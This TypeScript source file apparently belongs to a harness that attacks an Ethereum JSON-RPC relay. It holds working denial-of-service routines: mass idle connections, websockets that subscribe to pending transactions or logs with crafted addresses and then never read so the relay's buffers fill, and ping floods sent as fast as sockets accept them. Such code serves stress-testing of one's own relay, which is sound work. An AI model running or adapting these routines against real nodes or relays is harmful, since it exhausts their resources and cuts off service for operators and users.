// Connections that an attacker opens and keeps: idle ones, websockets with subscriptions that it
// may never read, and ones that send pings without an end.

import { once } from "node:events";
import { connect, type Socket } from "node:net";
import type { AttackParams } from "./attackKinds.ts";
import type { Tally } from "./flood.ts";

/**
 * Keeps the sockets from being garbage-collected, which could close them. They end with the
 * process.
 */
const held: Socket[] = [];
/** Connections that are opened at the same time. */
const AT_ONCE = 256;
const PENDING = "service_partialPendingTransactions";
/** A connection that is not open after this many ms counts as refused. */
const OPEN_MS = 5_000;
/** Clients must mask frames (RFC 6455); a zero key leaves the payload unchanged. */
const MASK = Buffer.alloc(4);
/** Addresses of a filter besides the first, so that all fits into the parameters of a call. */
const MOST_ADDRESSES = 18;
const PINGS_AT_ONCE = 10_000;
/** How long a flooder waits where there is no room for more, in ms. */
const FULL_MS = 10;

/** Opens `count` connections and sends nothing on them. */
export function holdIdle(params: AttackParams): Promise<Tally> {
	return openAll(params, AT_ONCE, async () => {
		const socket = await openSocket(params);
		if (socket === null) return "refused";
		// Reading lets the socket notice when the relay closes it.
		socket.resume();
		return "accepted";
	});
}

/**
 * Opens `count` websockets with `size` subscriptions to pending transactions each, and reads
 * nothing after the handshake.
 */
export function holdUnread(params: AttackParams): Promise<Tally> {
	return holdSubscribed(params, () => [PENDING]);
}

/** Opens `count` websockets with `size` subscriptions to the events of `to` each. */
export function holdLogReaders(params: AttackParams): Promise<Tally> {
	const size = params.size ?? 1;
	let made = 0;
	return holdSubscribed(params, () => {
		made += 1;
		const others = params.isEqual === true ? [] : numbered(made, size);
		return ["logs", { address: [params.to, ...others] }];
	});
}

/** Opens `count` websockets that send pings for `lastingMs`, as fast as they are taken. */
export async function pingAll(params: AttackParams): Promise<Tally> {
	const { count, lastingMs = 5_000 } = params;
	const pings = Buffer.concat(Array.from({ length: PINGS_AT_ONCE }, () => pingFrame("ping")));
	const begun = performance.now();
	return openAll(params, count, async () => {
		const opened = await openWebsocket(params);
		if (typeof opened === "string") return opened;
		if (params.reads === true) opened.resume();
		while (performance.now() - begun < lastingMs && !opened.destroyed) {
			if (!opened.write(pings)) await later(FULL_MS);
			await new Promise((resolve) => setImmediate(resolve));
		}
		return opened.destroyed ? "closed" : "accepted";
	});
}

/**
 * Makes `size` subscriptions on each of `count` websockets. Answers and notifications are read only
 * if `reads`.
 */
function holdSubscribed(params: AttackParams, subscription: () => readonly unknown[]): Promise<Tally> {
	return openAll(params, AT_ONCE, async () => {
		const socket = await openWebsocket(params);
		if (typeof socket === "string") return socket;
		if (params.reads === true) socket.resume();
		for (let i = 0; i < (params.size ?? 1); i++) {
			const body = { jsonrpc: "2.0", id: i, method: "eth_subscribe", params: subscription() };
			socket.write(frame(JSON.stringify(body)));
		}
		return "accepted";
	});
}

/**
 * An open websocket that is not read. If it was refused, the reason: "refused" or "HTTP/1.1 503".
 */
async function openWebsocket(params: AttackParams): Promise<Socket | string> {
	const socket = await openSocket(params);
	if (socket === null) return "refused";
	const origin = params.origin === undefined ? "" : `Origin: ${params.origin}\r\n`;
	socket.write(
		`GET /ws HTTP/1.1\r\nHost: relay\r\n${origin}Connection: Upgrade\r\nUpgrade: websocket\r\n` +
			"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
	);
	const [head] = (await Promise.race([
		once(socket, "data").catch(() => [Buffer.from("reset")]),
		once(socket, "close").then(() => [Buffer.from("closed")]),
	])) as [Buffer];
	// Nothing is read from here on, so what the relay sends fills the buffers of the system, then its
	// own.
	socket.pause();
	return head.includes(" 101 ") ? socket : head.subarray(0, 12).toString();
}

/** Addresses that nobody else asks for, as many as fit into a subscription. */
function numbered(from: number, count: number): readonly string[] {
	const step = 1_000_000;
	return Array.from(
		{ length: Math.min(count, MOST_ADDRESSES) },
		(_, i) => `0x${(from * step + i).toString(16).padStart(40, "0")}`,
	);
}

/** Calls `open` `count` times, and counts how often it returned each text. */
async function openAll({ count }: AttackParams, atOnce: number, open: () => Promise<string>): Promise<Tally> {
	const begun = performance.now();
	const outcomes: Record<string, number> = {};
	let left = count;
	const work = async (): Promise<void> => {
		while (left > 0) {
			left -= 1;
			const outcome = await open();
			outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
		}
	};
	await Promise.all(Array.from({ length: atOnce }, work));
	return { sent: count, ms: Math.round(performance.now() - begun), outcomes };
}

/** Null if it did not open. */
function openSocket({ url, from }: AttackParams): Promise<Socket | null> {
	const { port, hostname } = new URL(url);
	return new Promise((resolve) => {
		const socket = connect({ port: Number(port), host: hostname, localAddress: from });
		const timer = setTimeout(() => socket.destroy(), OPEN_MS);
		socket.on("error", () => {});
		socket.once("close", () => resolve(null));
		socket.once("connect", () => {
			clearTimeout(timer);
			held.push(socket);
			resolve(socket);
		});
	});
}

/** A websocket text frame with `text`, see section 5.2 of RFC 6455. */
function frame(text: string): Buffer {
	const body = Buffer.from(text);
	const head =
		body.length < 126
			? Buffer.from([0x81, 0x80 | body.length])
			: Buffer.from([0x81, 0x80 | 126, body.length >> 8, body.length & 0xff]);
	return Buffer.concat([head, MASK, body]);
}

/** A ping with `text`. */
function pingFrame(text: string): Buffer {
	const body = Buffer.from(text);
	return Buffer.concat([Buffer.from([0x89, 0x80 | body.length]), MASK, body]);
}

function later(ms: number): Promise<void> {
	return new Promise((resolve) => setTimeout(resolve, ms));
}
